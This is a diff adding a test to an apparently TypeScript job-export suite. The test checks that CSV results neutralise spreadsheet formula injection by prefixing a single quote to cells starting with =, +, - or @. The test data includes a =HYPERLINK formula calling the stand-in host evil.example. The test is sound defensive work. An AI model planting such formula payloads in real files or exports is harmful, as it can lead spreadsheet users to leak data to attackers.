@@ -248,6 +248,27 @@ describe('running a job', () => {
     assert.match(String(ndjson.type), /^application\/x-ndjson/);
   });
 
+  test('CSV results: a text cell that a spreadsheet would run as a formula starts with a single quote', async () => {
+    const tenant = await createTenant(t);
+    const id = unique('x');
+    const numbers = [`=HYPERLINK("http://evil.example/${id}","a,b")`, `+${id}`, `-${id}`, `@SUM(${id})`, `plain-${id}`];
+    const job = await newJob(tenant);
+    await upload(tenant, job.id, numbers.map((number) => {
+      const account = accountPayload(tenant.supplier, { external_account_number: number });
+      account.customers[0]!.mobile = '12';
+      return { account };
+    }));
+    await action(tenant, job.id, 'start');
+    await finished(tenant, job.id);
+    const csv = await results(tenant, job.id, '', 'text/csv');
+    const rows = csv.body.split('\r\n').slice(1, -1).map((row) => row.replace(/,invalid_phone_number,.*$/, ''));
+    assert.deepEqual(rows, [
+      `1,"'=HYPERLINK(""http://evil.example/${id}"",""a,b"")",failed,account,`,
+      `2,'+${id},failed,account,`, `3,'-${id},failed,account,`, `4,'@SUM(${id}),failed,account,`, `5,plain-${id},failed,account,`,
+    ]);
+    assert.deepEqual((await resultsOf(tenant, job.id)).map((r) => r.external_account_number), numbers, 'NDJSON carries the values as they are');
+  });
+
   test('the same file twice: the second job changes nothing and reports created: false', async () => {
     const tenant = await createTenant(t);
     const account = accountPayload(tenant.supplier);
